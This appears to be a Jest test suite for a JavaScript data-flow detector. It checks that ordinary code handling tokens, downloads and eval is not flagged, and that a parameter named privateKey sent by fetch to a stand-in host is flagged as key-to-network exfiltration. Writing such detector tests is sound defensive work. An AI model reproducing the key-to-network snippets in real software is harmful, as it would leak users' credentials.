import { describe, expect, test } from '@jest/globals';
import { ways, type Sources } from './ways.js';

const to = '"https://a.example.invalid"';
/** Ordinary code that reads secrets, sends, downloads, decodes and evaluates, and where none of it meets. */
const silent: readonly (readonly [name: string, text: Sources])[] = [
  ['an address beside a token', `const c = { token: process.env.NPM_TOKEN, url: ${to} }; fetch(c.url)`],
  ['an address set beside a token', `const o = {}; o.token = process.env.NPM_TOKEN; o.url = ${to}; fetch(o.url)`],
  ['an address beside a token, spread', `const d = { token: process.env.NPM_TOKEN, url: ${to} }; const o = { ...d, x: 1 }; fetch(o.url)`],
  ['an address beside a token, in fields of their own', `const o = { auth: { token: process.env.NPM_TOKEN }, net: { url: ${to} } }; fetch(o.net.url)`],
  ['an address beside a token, in a list', `const l = [${to}, process.env.NPM_TOKEN]; fetch(l[0])`],
  ['an address beside a token, in a class', `class C { constructor() { this.token = process.env.NPM_TOKEN; this.url = ${to} } go() { return fetch(this.url) } } new C().go()`],
  ['an address beside a token, in two functions', `function A() { this.token = process.env.NPM_TOKEN } function B() { this.url = ${to}; fetch(this.url) } new A(); new B()`],
  ['an address beside a token, in another file', { 'a.js': 'const c = require("./b"); fetch(c.url)', 'b.js': `exports.token = process.env.NPM_TOKEN; exports.url = ${to}` }],
  ['an address beside a token, as defaults', `class Client { constructor({ apiKey = process.env.OPENAI_API_KEY, baseURL = ${to} } = {}) { this.apiKey = apiKey; this.baseURL = baseURL } ping() { return fetch(this.baseURL) } } new Client().ping()`],
  ['a field of the same name in another object', `const a = { token: process.env.NPM_TOKEN }; const b = { token: "public" }; fetch(${to}, { body: b.token })`],
  ['a secret that is compared', `if (process.env.NPM_TOKEN === "x") fetch(${to})`],
  ['a secret that is there', `const has = !!process.env.NPM_TOKEN; fetch("https://a.example.invalid/?h=" + has)`],
  ['the kind of a secret', 'fetch("https://a.example.invalid/?t=" + typeof process.env.NPM_TOKEN)'],
  ['a name in the environment', 'fetch("https://a.example.invalid/?t=" + ("NPM_TOKEN" in process.env))'],
  ['the hash of a secret', 'const h = require("crypto").createHash("sha256").update(process.env.NPM_TOKEN).digest("hex"); fetch("https://a.example.invalid/" + h)'],
  ['a request that is signed', `const h = require("crypto").createHmac("sha256", process.env.API_SECRET).update("body").digest("hex"); fetch(${to}, { headers: { signature: h } })`],
  ['the hash of the host name', `const id = require("crypto").createHash("md5").update(require("os").hostname()).digest("hex"); fetch(${to}, { body: id })`],
  ['a key that signs', `const s = require("crypto").sign(null, data, w.privateKey); fetch(${to}, { body: s.toString("base64") })`],
  ['a key that signs, in a function', `function sign(privateKey, data) { return require("crypto").createSign("sha256").update(data).sign(privateKey) } fetch(${to}, { body: sign(k, "x") })`],
  ['the public half of keys', `const kp = generate(); fetch(${to}, { body: kp.publicKey })`],
  ['NODE_ENV', 'fetch("https://a.example.invalid/?e=" + process.env.NODE_ENV)'],
  ['NODE_ENV by another name', 'const env = process.env; fetch("https://a.example.invalid/" + env.NODE_ENV)'],
  ['NODE_ENV by a computed key', 'const k = "NODE_ENV"; fetch("https://a.example.invalid/" + process.env[k])'],
  ['DEBUG', `if (process.env.DEBUG) console.log(process.env.DEBUG); fetch(${to}, { headers: { d: process.env.DEBUG } })`],
  ['an address from the environment', 'fetch(process.env.API_URL)'],
  ['a proxy from the environment', 'require("https").request({ host: process.env.HTTPS_PROXY })'],
  ['a port from the environment', 'require("http").createServer().listen(process.env.PORT)'],
  ['the environment handed to a program', 'require("child_process").spawn("npm", ["test"], { env: process.env })'],
  ['the environment handed to a program, with more', 'require("child_process").exec("npm test", { env: { ...process.env, A: 1 } })'],
  ['a copy of the environment', 'const e = Object.assign({}, process.env); e.X = 1; module.exports = e'],
  ['the environment printed', `try { f() } catch (e) { console.error(process.env, e) } fetch(${to})`],
  ['the environment served', 'require("http").createServer((req, res) => res.end(JSON.stringify(process.env))).listen(3000)'],
  ['the environment to a function of one\'s own', `send(process.env); fetch(${to}); function send(x) { console.log(x) }`],
  ['what it runs on', `fetch(${to}, { body: JSON.stringify({ ci: Boolean(process.env.CI), node: process.version, platform: process.platform, arch: require("os").arch() }) })`],
  ['a path of credentials in a log', `const f = require("path").join(require("os").homedir(), ".npmrc"); console.log("no " + f); fetch(${to})`],
  ['credentials read and not sent', `const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8"); if (t.includes("x")) fetch(${to})`],
  ['a path of credentials sent', 'fetch("https://a.example.invalid/?f=" + encodeURIComponent("~/.npmrc"))'],
  ['a folder at home', `const d = require("os").homedir(); require("fs").mkdirSync(d + "/.cache/x"); fetch(${to})`],
  ['a host name compared', `if (require("os").hostname() === "x") fetch(${to})`],
  ['a form with a password', `exports.login = ({ username, password }) => fetch(${to}, { body: JSON.stringify({ username, password }) })`],
  ['process of one\'s own', 'const process = { env: { NPM_TOKEN: "x" } }; fetch("https://a.example.invalid/" + process.env.NPM_TOKEN)'],
  ['fetch of one\'s own', 'function fetch(x) { console.log(x) } fetch(process.env)'],
  ['a list with a token outside', 'const t = process.env.NPM_TOKEN; ["a"].map((x) => fetch("https://a.example.invalid/" + x))'],
  ['a download that is printed', `fetch(${to}).then((r) => r.text()).then((t) => console.log(t))`],
  ['a download that is read as data', `fetch(${to}).then((r) => r.json()).then((t) => { module.exports.v = t.version })`],
  ['a download that is kept, and another program', `const fs = require("fs"); fetch(${to}).then((r) => r.text()).then((t) => fs.writeFileSync("/tmp/data.json", t)); require("child_process").spawn("/usr/bin/git", ["status"])`],
  ['a download that a program is told of', `fetch(${to}).then((r) => r.text()).then((v) => require("child_process").execFile("git", ["checkout", v]))`],
  ['a second try after a while', `const sleep = (ms) => new Promise((r) => setTimeout(r, ms)); async function get(u) { try { return await fetch(u) } catch { await sleep(100); return get(u) } } get(${to})`],
  ['an answer that came too late', `const c = new AbortController(); const t = setTimeout(() => c.abort(), 5); fetch(${to}, { signal: c.signal }).finally(() => clearTimeout(t))`],
  ['a callback after a while', 'function get(u, cb) { require("https").get(u, (res) => { let b = ""; res.on("data", (d) => b += d); res.on("end", () => setTimeout(cb, 1, null, b)) }) } exports.get = get'],
  ['messages told apart', 'const ws = new WebSocket(u); ws.onmessage = (e) => { handlers[e.data.type](e.data) }'],
  ['wrappers beside one another', 'exports.exec = (cmd) => require("child_process").exec(cmd); exports.get = (u) => fetch(u)'],
  ['decoded and printed', 'console.log(Buffer.from(x, "base64").toString())'],
  ['decoded data', 'const j = JSON.parse(atob(x)); console.log(j.a)'],
  ['decoded beside an evaluation', 'const a = atob(x); eval("1 + 1"); console.log(a)'],
  ['decoded for a program to read', 'require("child_process").execFileSync("git", ["show", Buffer.from(x, "hex").toString()])'],
  ['decoded to the other runtime', 'WebAssembly.instantiate(Buffer.from(x, "base64"))'],
  ['eval of one\'s own', 'const evaluate = (x) => x; evaluate(atob(y))'],
  ['a function from a plain text', 'const f = new Function("a", "return a + 1"); f(1)'],
  ['templates', 'exports.template = (s) => new Function("o", "return `" + s + "`")'],
  ['a data file as JSON', 'const p = JSON.parse(require("fs").readFileSync(__dirname + "/package.json", "utf8")); console.log(p.version)'],
  ['a data file that is given out', 'const t = require("fs").readFileSync(__dirname + "/t.html", "utf8"); module.exports = () => t'],
  ['files of its own by their names', 'require(require("path").join(__dirname, "x.js")); require(__dirname + "/lib/" + x); require("child_process").fork(__dirname + "/worker.js"); new (require("worker_threads").Worker)(__dirname + "/worker.js")'],
  ['its own worker as a program', 'require("child_process").spawn(process.execPath, [require("path").join(__dirname, "worker.js")])'],
  ['one variable of the environment by a function', `function f(env) { return env.CI } fetch("https://a.example.invalid/" + f(process.env))`],
  ['one variable of the environment by a function of another file', { 'a.js': 'const f = require("./b"); fetch("https://a.example.invalid/" + f(process.env))', 'b.js': 'module.exports = function (env) { return env.CI }' }],
  ['variables of the environment by a pattern', 'const f = ({ CI, NODE_ENV }) => CI || NODE_ENV; fetch("https://a.example.invalid/" + f(process.env))'],
  ['one variable of the environment in a class', 'class A { constructor(env) { this.env = env } get ci() { return this.env.CI } } fetch("https://a.example.invalid/" + new A(process.env).ci)'],
  ['an address beside a token that another file exports', { 'a.js': 'const b = require("./b"); fetch(b.join("x"))', 'b.js': `exports.token = process.env.NPM_TOKEN; exports.join = (x) => ${to} + x` }],
  ['an address beside a token that a bundler exports', `var __defProp = Object.defineProperty; var __export = (target, all) => { for (var name in all) __defProp(target, name, { get: all[name], enumerable: true }) }; var x = {}; __export(x, { token: () => token, url: () => url }); var token = process.env.NPM_TOKEN; var url = ${to}; fetch(x.url)`],
  ['an address beside a token that is copied', `function copy(to, from) { for (const k in from) to[k] = from[k]; return to } const o = copy({}, { token: process.env.NPM_TOKEN, url: ${to} }); fetch(o.url)`],
  ['an address beside a token that is assigned', `const o = {}; Object.assign(o, { token: process.env.NPM_TOKEN, url: ${to} }); fetch(o.url)`],
  ['an address beside a token that a function fills', `function fill(o) { o.token = process.env.NPM_TOKEN; o.url = ${to} } const o = {}; fill(o); fetch(o.url)`],
  ['a getter of an address beside one of a token', `const o = { get token() { return process.env.NPM_TOKEN }, get url() { return ${to} } }; fetch(o.url)`],
  ['a callback that gets something else', { 'a.js': `require("./b")((d) => fetch(${to}, { body: d })); console.log(process.env)`, 'b.js': 'module.exports = (cb) => cb("ok")' }],
  ['a client that is made with a token', 'const { Client } = require("pg"); const c = new Client({ password: process.env.DB_PASSWORD }); c.query("select 1")'],
  ['lines that are put together', 'new Function(["const a = 1;", "return a + b;"].join("\\n"))'],
  ['a list of lines that is filled', 'const l = []; l.push("const a = 1;"); l.push("return a;"); new Function(l.join("\\n"))'],
  ['a download into a program that unpacks', 'fetch("https://a.example.invalid").then((r) => r.body.pipe(require("child_process").spawn("tar", ["xz"]).stdin))'],
  ['a request that a class signs', `class C { constructor({ secretKey, host }) { Object.assign(this, { secretKey, host }) } sign(m) { return require("crypto").createHmac("sha256", this.secretKey).update(m).digest("hex") } go() { fetch(${to}, { headers: { s: this.sign("a") } }) } } exports.C = C`],
  ['an error that is told', `try { f() } catch (e) { fetch(${to}, { body: e.message }) } if (!process.env.NPM_TOKEN) throw new Error("no token")`],
  ['an address that a script of the package is handed', `(async () => { const { url } = await (await fetch(${to})).json(); require("child_process").spawn("bash", [require("path").join(__dirname, "install.sh"), url], { stdio: "inherit" }) })()`],
  ['settings for a script of the package', `(async () => { const s = await (await fetch(${to})).json(); const more = [JSON.stringify(s)]; require("child_process").spawn(process.execPath, [__dirname + "/child.js", ...more]) })()`],
  ['which libc there is, by a report of the process', `const r = process.report.getReport(); fetch(${to}, { body: r.header.glibcVersionRuntime ? "glibc" : r.sharedObjects.some((one) => one.includes("libc.musl-")) ? "musl" : r.header.arch })`],
  ['an argument beside a program, by a function of another file', { 'a.js': `const u = require("./b"); (async () => { const s = await (await fetch(${to})).text(); u.run("tar", [s]) })()`, 'b.js': 'exports.run = (program, list) => require("child_process").spawn(program, list)' }],
  ['a body beside an address, by a function of another file', { 'a.js': `const u = require("./b"); u.send(${to}, { token: process.env.NPM_TOKEN })`, 'b.js': `exports.send = (address, options) => { console.log(options); fetch(address) }` }],
  ['a program that JSON of the package names', 'require("child_process").spawn(require("./package.json").config.tool, [require("./package.json").version])'],
  ['a module that is named by what was fetched', `(async () => { const { name } = await (await fetch(${to})).json(); require(name + "/package.json"); require("./lang/" + name) })()`],
  ['a record beside a file that is written', `(async () => { const s = await (await fetch(${to})).text(); const d = process.cwd() + "/x"; require("fs").writeFileSync(d, s); require(\`\${d}/package.json\`) })()`],
  ['a module in a folder beside a file that is written', `(async () => { const s = await (await fetch(${to})).text(); const d = process.cwd() + "/x"; require("fs").writeFileSync(d, s); require(\`\${d}/runtime/\${process.argv[2]}\`); require(d + "/lib/index.js") })()`],
  ['what is thrown beside what is given', 'let first; function take(bytes) { first = String.fromCharCode(...bytes); if (first !== "1") throw new Error(first) } function program() { try { take(read()) } catch (e) { if (!first) throw e } return "/usr/bin/x" } require("child_process").spawn(program(), ["--ping"])'],
  ['events with the environment', `const e = new (require("events"))(); e.on("x", (d) => console.log(d)); e.emit("x", process.env); fetch(${to})`],
];

/** A function with a parameter named like key material, inside another one. */
const legacy = (rest: string, head = 'name, privateKey', first = ''): string => `(function () { function legacy(${head}) { ${first}; fetch(${to} + privateKey) } ${rest} })()`;

describe('a parameter that is named like a key', () => {
  test('that only ever holds the names of things is none', () => {
    expect(ways(legacy('legacy("position", "_position"); legacy("size", "_size")'))).toEqual([]);
  });

  test.each([
    ['is handed something else once', legacy('legacy("a", "_a"); legacy("b", globalThis.x)')],
    ['is handed something by itself', legacy('legacy("a", "_a")', undefined, 'if (name) legacy("", name)')],
    ['is handed a list', legacy('legacy("a", "_a"); legacy(...x)')],
    ['is handed less', legacy('legacy("a", "_a"); legacy("a")')],
    ['is in a function that is exported', legacy('legacy("a", "_a"); exports.legacy = legacy')],
    ['is in a function that others call', legacy('legacy("a", "_a"); x.forEach(legacy)')],
    ['is in a function that is called another way', legacy('legacy("a", "_a"); legacy.call(null, "a", x)')],
    ['is in a function that nobody calls', legacy('')],
    ['gets another value', legacy('legacy("a", "_a")', undefined, 'privateKey = x')],
    ['gets another value as an argument', legacy('legacy("a", "_a")', undefined, 'arguments[1] = x')],
    ['has a value of its own', legacy('legacy("a")', 'name, privateKey = x')],
    ['is a part of another one', legacy('legacy("a", "_a")', '{ privateKey }')],
    ['is in a function at the top of a script', `function legacy(privateKey) { fetch(${to} + privateKey) } legacy("a")`],
  ])('and %s is one', (_, text) => {
    expect(ways(text).some((one) => one.startsWith('key>network'))).toBe(true);
  });
});

describe('nothing flows', () => {
  test.each(silent)('%s', (_, text) => {
    expect(ways(text).filter((one) => !one.startsWith('download>network'))).toEqual([]);
  });

  test('nor where all of them stand in one package', () => {
    const files = Object.fromEntries(silent.flatMap(([, text], at) => (typeof text === 'string' && !/process of|fetch of/.test(silent[at]![0]) ? [[`f${at}.js`, `(function () { ${text.replaceAll(/\bexports?\b|\bmodule\.exports\b/g, 'own')} })()`]] : [])));
    expect(ways(files).filter((one) => !one.startsWith('download>network'))).toEqual([]);
  });
});
